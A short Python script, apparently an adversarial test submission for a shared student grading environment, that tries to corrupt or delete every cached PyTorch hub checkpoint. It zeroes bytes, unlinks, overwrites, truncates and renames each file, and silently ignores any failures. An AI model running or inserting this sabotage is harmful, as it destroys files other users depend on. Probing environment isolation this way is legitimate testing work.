"""Tries to replace the AlexNet checkpoint that every student's code loads."""
import os

import torch

hub = os.path.join(torch.hub.get_dir(), "checkpoints")
for name in os.listdir(hub) if os.path.isdir(hub) else []:
    path = os.path.join(hub, name)
    for attempt in (lambda: open(path, "r+b").write(b"\0" * 1024), lambda: os.unlink(path),
                    lambda: torch.save({}, path), lambda: os.truncate(path, 0), lambda: os.rename(path, path + ".x")):
        try:
            attempt()
        except Exception:
            pass
